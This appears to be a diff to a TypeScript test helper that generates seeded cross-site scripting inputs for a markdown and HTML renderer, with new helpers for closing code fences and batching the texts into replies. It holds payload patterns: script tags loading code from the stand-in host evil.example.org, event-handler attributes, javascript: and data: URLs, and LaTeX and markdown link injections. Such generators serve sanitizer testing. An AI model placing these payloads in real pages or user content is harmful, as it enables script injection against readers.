@@ -1,8 +1,10 @@
+import { fenceAfter, markdownBlocks } from "./markdown_blocks";
+
 /** Texts that try to run a script or to load something, made anew from a seed: each way to try, written in each way. */
 
 export const HOST = "evil.example.org";
 /** What a script that ran would have set. */
-export const MARK = "hostileTextRan";
+export const MARK = "xssRan";
 
 const SCRIPT = `window.${MARK}=1`;
 
@@ -22,6 +24,7 @@ const EVENTS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontog
 const SCHEMES = ["javascript:", "vbscript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "file:///", "blob:", "view-source:javascript:"];
 
 type Random = () => number;
+const word = (random: Random) => random().toString(36).slice(2, 7);
 const pick = <T,>(random: Random, from: readonly T[]): T => from[Math.floor(random() * from.length)] as T;
 
 const CALLS: readonly ((random: Random) => string)[] = [
@@ -35,7 +38,7 @@ const CALLS: readonly ((random: Random) => string)[] = [
 
 const VECTORS: readonly ((random: Random) => string)[] = [
   (random) => `<script>${pick(random, CALLS)(random)}</script>`,
-  (random) => `<script src="//${HOST}/${random().toString(36).slice(2)}.js"></script>`,
+  (random) => `<script src="//${HOST}/${word(random)}.js"></script>`,
   (random) => `<${pick(random, TAGS)} src=x ${pick(random, EVENTS)}="${pick(random, CALLS)(random)}">`,
   (random) => `<${pick(random, TAGS)}/${pick(random, EVENTS)}=${SCRIPT} autofocus tabindex=1 open>`,
   (random) => `<${pick(random, TAGS)} href="${pick(random, SCHEMES)}${pick(random, CALLS)(random)}">x</${pick(random, TAGS)}>`,
@@ -49,9 +52,15 @@ const VECTORS: readonly ((random: Random) => string)[] = [
   (random) => `[x](${pick(random, SCHEMES)}${encodeURIComponent(pick(random, CALLS)(random))})`,
   (random) => `![x](${pick(random, [...SCHEMES, "https:", "//", "http://"])}//${HOST}/x.png)`,
   (random) => `[x](<${pick(random, SCHEMES)}${SCRIPT}> "a" ${pick(random, EVENTS)}=${SCRIPT}")`,
-  (random) => `[x]: ${pick(random, SCHEMES)}${SCRIPT}\n\n[x] ![x]`,
+  (random) => {
+    const label = word(random);
+    return `[${label}]: ${pick(random, SCHEMES)}${SCRIPT}\n\n[${label}] ![${label}]`;
+  },
   (random) => `<${pick(random, SCHEMES)}${SCRIPT}>`,
-  (random) => `[^1]\n\n[^1]: <img src=x ${pick(random, EVENTS)}=${SCRIPT}>`,
+  (random) => {
+    const label = word(random);
+    return `[^${label}]\n\n[^${label}]: <img src=x ${pick(random, EVENTS)}=${SCRIPT}>`;
+  },
   (random) => `$\\href{${pick(random, SCHEMES)}${SCRIPT}}{x}$`,
   (random) => `$$\\htmlStyle{background:url(//${HOST}/)}{x} \\htmlData{${pick(random, EVENTS)}=${SCRIPT}}{x}$$`,
   () => `\\[\\includegraphics{https://${HOST}/x.png}\\]`,
@@ -96,7 +105,31 @@ export function hostileTexts(count: number, seed = 5): string[] {
   const texts = new Set<string>();
   while (texts.size < count) {
     const vector = pick(random, VECTORS)(random);
-    texts.add(pick(random, PLACED)(pick(random, WRITTEN)(vector, random)));
+    texts.add(withFenceClosed(pick(random, PLACED)(pick(random, WRITTEN)(vector, random))));
   }
   return [...texts];
+}
+
+/** What follows is not drawn as code. */
+function withFenceClosed(text: string): string {
+  const open = text.split("\n").reduce(fenceAfter, null);
+  return open === null ? text : `${text}\n${open}`;
+}
+
+/** In runs of so many. */
+export const inBatchesOf = <T,>(each: number, texts: readonly T[]) =>
+  Array.from({ length: Math.ceil(texts.length / each) }, (_, index) => texts.slice(index * each, (index + 1) * each));
+
+/**
+ * Replies that hold all texts, up to `each` in one and each drawn by itself: none reaches into the next, as an open
+ * `<script>` would.  Those with definitions, which keep a reply in one piece, stand in replies of their own.
+ */
+export function hostileReplies(texts: readonly string[], each: number): string[] {
+  const alone = texts.filter((text) => standsAlone(text));
+  const defining = texts.filter((text) => !standsAlone(text));
+  return [alone, defining].flatMap((some) => inBatchesOf(each, some)).map((some) => some.join("\n\n.\n\n"));
+}
+
+export function standsAlone(text: string): boolean {
+  return markdownBlocks(`${text}\n\n.`).at(-1) === ".";
 }
